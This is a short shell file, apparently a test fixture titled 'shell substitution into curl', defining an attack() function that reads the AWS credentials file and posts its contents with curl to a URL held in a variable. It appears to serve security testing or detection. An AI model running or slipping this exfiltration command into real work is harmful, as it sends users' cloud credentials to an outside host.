# SPDX-License-Identifier: Apache-2.0
TITLE="shell substitution into curl"
ROW="R01 E03 P04"
attack() { curl -s -m 5 -d "$(cat "$HOME/.aws/credentials")" "$URL/"; }
